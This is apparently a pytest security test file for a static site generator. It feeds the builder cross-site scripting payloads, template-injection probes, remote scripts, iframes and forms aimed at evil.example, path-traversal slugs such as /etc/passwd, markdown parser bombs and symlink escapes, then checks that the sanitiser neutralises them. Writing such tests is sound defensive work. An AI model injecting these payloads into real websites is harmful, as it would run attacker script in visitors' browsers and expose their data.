"""Content arrives by pull request: whatever it says, the finished pages are ours."""

import json
import os
import re
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pytest

from site_builder.build.options import BuildOptions, BuildResult
from site_builder.build.pipeline import build
from site_builder.model.diagnostic import Severity
from tests.sites import write_site
from tests.theme.making import builtin

MARK = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\\\"'>{{ 7*191 }}{% raw %}"
QUOTED = '"' + MARK.replace('\\"', '\\"') + '"'

FIELDS = f"""
    -- content/musicians/victim.md --
    name: {QUOTED}
    slug: victim
    sort_name: {QUOTED}
    aliases: [{QUOTED}]
    summary: {QUOTED}
    instruments: [{{name: {QUOTED}, note: {QUOTED}}}, violin]
    countries: [{QUOTED}]
    venues: [{{name: {QUOTED}, year: 2004, note: {QUOTED}}}]
    birthplace: {QUOTED}
    genres: [{QUOTED}]
    ensembles: [{QUOTED}]
    labels: [{QUOTED}]
    teachers: [{{name: {QUOTED}, note: {QUOTED}}}]
    works: [{{title: {QUOTED}, kind: {QUOTED}, note: {QUOTED}}}]
    image: {{file: victim.png, alt: {QUOTED}, credit: {QUOTED}}}
    sources: [{QUOTED}]

    See [[{MARK}]] and [[victim|{MARK}]].

    -- content/instruments/violin.md --
    name: violin
    family: {QUOTED}
    summary: {QUOTED}
    -- content/venues/hall.md --
    name: Hall
    city: {QUOTED}
    country: {QUOTED}
    -- content/pages/about.md --
    name: {QUOTED}
    slug: about
    summary: {QUOTED}
    -- content/musicians/other.md --
    name: Other
    venues: [Hall]
    teachers: [victim]

    A word on [[victim]].
"""

BODIES = {
    "script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "an event handler": '<b onmouseover="alert(1)">x</b>',
    "a style": '<p style="position:fixed">x</p><style>*{display:none}</style>',
    "a drawing": "<svg><script>alert(1)</script><use href='#x'/></svg>",
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a form": '<form action="https://evil.example"><input name=q></form>',
    "a javascript link": "[x](javascript:alert(1))",
    "a javascript link in disguise": "[x](JaVaScRiPt&colon;alert(1))",
    "a javascript link in HTML": '<a href="java&#9;script:alert(1)">x</a>',
    "a data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.png)",
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "an object": '<object data="https://evil.example/x.swf"></object>',
    "a comment that hides": "<!-- <script>alert(1)</script> -->",
    "a math element": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "a reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "an autolink": "<javascript:alert(1)>",
    "a heading in a heading": "<h2><div><h3>in</h3></div> &gt;&lt;script&gt;alert(1)&lt;/script&gt;</h2>",
    "a forged marker": "x&#14;0&#15;x [[Victim]] &#x0e;7&#X0F;",
}

HARMLESS = {"an autolink", "a comment that hides", "a heading in a heading", "a forged marker"}
"""What is shown as text, and what no browser ever shows."""

SAFE_TYPES = {"application/ld+json"}
THEME = builtin("encyclopedia")
SCRIPTS_OF_THE_THEME = {
    f"{root}static/{asset.name}" for root in ("", "../", "/") for asset in THEME.assets() if asset.name.endswith(".js")
}
DANGEROUS = {"script", "iframe", "object", "embed", "base", "form", "style", "svg", "math"}
CLASSES_OF_THE_THEME = {
    "svg": {"emblem", "drawing", "histogram", "spot", "threads", "timeline"},
    "form": {"search", "search-form"},
}
"""Sanitised text has no class that it was not given by the program."""


def build_site(tmp_path: Path, text: str) -> BuildResult:
    root = write_site(tmp_path / "site", text)
    (root / "content/musicians/victim.png").write_bytes(b"\x89PNG")
    return build(root, BuildOptions(base_url="https://example.org/"))


def is_of_theme(element: Element) -> bool:
    classes = set((element.get("class") or "").split())
    return bool(classes & CLASSES_OF_THE_THEME.get(str(element.tag), set()))


def dangers(page: Path) -> list[str]:
    """What on a page could run, reach another host, or leave the document's frame."""
    found = []
    for element in html5lib.parse(page.read_bytes(), namespaceHTMLElements=False).iter():
        tag = str(element.tag)
        if tag == "script" and element.get("type") in SAFE_TYPES:
            json.loads(element.text or "")
        elif tag == "script" and element.get("src") in SCRIPTS_OF_THE_THEME and not element.text:
            continue
        elif tag in DANGEROUS and not is_of_theme(element):
            found.append(tag)
        elif tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh" and "evil" in str(element.attrib):
            found.append("refresh")
        for name, value in element.attrib.items():
            address = re.sub(r"[\t\r\n]|^[\x00-\x20]+", "", value).lower()  # as browsers read addresses
            if name.startswith("on") or name == "style":
                found.append(f"{tag} {name}")
            is_icon = tag == "link" and element.get("rel") == "icon"
            if (
                not is_icon
                and name in {"href", "src", "action", "data", "srcset"}
                and re.match(r"(javascript|data|vbscript):", address)
            ):
                found.append(f"{tag} {name}={value}")
            if name in {"src", "srcset"} and "//" in address:
                found.append(f"{tag} {name}={value}")
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "site").mkdir()
    return build_site(folder, FIELDS)


def test_markup_in_any_field_is_text_on_every_page(hostile: BuildResult) -> None:
    assert hostile.published, hostile.diagnostics
    pages = sorted(hostile.output.rglob("*.html"))

    assert len(pages) > 15
    assert {page.name: found for page in pages if (found := dangers(page))} == {}


def test_the_text_of_the_fields_is_kept(hostile: BuildResult) -> None:
    page = html5lib.parse((hostile.output / "musicians/victim.html").read_bytes(), namespaceHTMLElements=False)

    text = "".join(page.find("body").itertext())
    assert text.count("<script>alert(1)</script><img src=x onerror=alert(1)>") >= 10


def test_content_is_never_a_template(hostile: BuildResult) -> None:
    for page in hostile.output.rglob("*.html"):
        assert "1337" not in re.sub(r"&#\d+;", "", page.read_text()), page


def test_machine_readable_files_hold_the_fields_as_data(hostile: BuildResult) -> None:
    entry = json.loads((hostile.output / "musicians/victim.json").read_bytes())

    assert "<script>" in entry["name"]
    assert "<script>" not in (hostile.output / "sitemap.xml").read_text()


@pytest.mark.parametrize("attack", BODIES)
def test_an_attack_in_a_body_is_gone_and_reported(attack: str, tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    body = BODIES[attack].replace("\n", "\n        ")

    result = build_site(
        tmp_path,
        f"""
        -- content/musicians/victim.md --
        name: Victim

        Before. {body}

        After.
        """,
    )

    page = result.output / "musicians/victim.html"
    assert result.published, result.diagnostics
    assert dangers(page) == []
    assert "After." in page.read_text()
    if attack not in HARMLESS:
        assert [fault.code for fault in result.diagnostics if fault.severity is not Severity.NOTICE] != []


@pytest.mark.parametrize("slug", ["../../x", "/etc/passwd", "C:\\\\x", "%2e%2e", "a/b", "con", "x\\0"])
def test_an_address_that_leads_elsewhere_is_refused_and_nothing_is_written(slug: str, tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()

    result = build_site(tmp_path, f'-- content/musicians/x.md --\nname: X\nslug: "{slug}"\n')

    assert (result.published, result.failed) == (False, True)
    assert not result.output.exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["site"]


@pytest.mark.parametrize(
    "bomb", ["[" * 4096, "* " * 500, ">" * 3000, "<" * 20_000, "<div>" * 40_000, "`" * 9_999, "![](" * 4_000]
)
def test_a_bomb_is_one_pages_fault_and_the_others_are_built(bomb: str, tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    write_site(tmp_path / "site", f"-- content/musicians/bomb.md --\nname: Bomb\n\n{bomb}\n")
    write_site(tmp_path / "site", "-- content/musicians/peace.md --\nname: Peace\n\nQuiet.\n")

    before = os.times()
    result = build(tmp_path / "site", BuildOptions(keep_going=True))
    # Of processors, in this process and its children: somebody else may be using the machine.
    spent = sum(os.times()[:4]) - sum(before[:4])

    assert {fault.span.path for fault in result.diagnostics if fault.severity is Severity.ERROR} <= {
        "content/musicians/bomb.md"
    }
    assert "Quiet." in (result.output / "musicians/peace.html").read_text()
    assert spent < 10


def test_no_control_character_reaches_a_page(tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()

    result = build_site(
        tmp_path,
        """
        -- content/musicians/victim.md --
        name: Victim
        summary: "one\\x01two\\0"

        A body &#1; &#12; &#xFFFE; &#127; with signs.
        """,
    )

    page = build_anyway(result).read_text()
    assert [sign for sign in page if not (sign.isprintable() or sign in "\n\t")] == []


def build_anyway(result: BuildResult) -> Path:
    kept = build(result.output.parent, BuildOptions(keep_going=True))
    return kept.output / "musicians/victim.html"


def test_a_picture_behind_a_symbolic_link_is_never_published(tmp_path: Path) -> None:
    root = tmp_path / "site"
    root.mkdir()
    (tmp_path / "secret.png").write_bytes(b"secret")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets/z.png").write_bytes(b"secret")
    write_site(root, "-- content/musicians/x.md --\nname: X\n\n![x](secret.png) ![z](../pics/z.png) ![y](.dot.png)\n")
    (root / "content/musicians/secret.png").symlink_to(tmp_path / "secret.png")
    (root / "content/pics").symlink_to(tmp_path / "secrets")
    (root / "content/musicians/.dot.png").write_bytes(b"secret")

    result = build(root, BuildOptions(keep_going=True))

    assert result.published
    assert [path for path in result.output.rglob("*") if path.is_file() and path.read_bytes() == b"secret"] == []
